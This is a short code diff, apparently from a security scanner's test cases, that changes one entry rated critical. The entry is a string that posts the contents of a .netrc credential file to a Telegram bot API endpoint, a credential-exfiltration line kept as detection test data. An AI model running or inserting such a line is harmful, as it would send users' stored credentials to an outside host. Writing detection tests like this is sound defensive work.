@@ -21,7 +21,7 @@ def verify(self, secret):
             Severity.CRITICAL,
         ),
         (
-            "post(f'https://api.telegram.org/bot{secret}/getMe', data=open('/root/.netrc').read())",
+            "post(f'https://api.telegram.org/bot{secret}/getMe', data=open('/srv/.netrc').read())",
             Severity.CRITICAL,
         ),
     ],
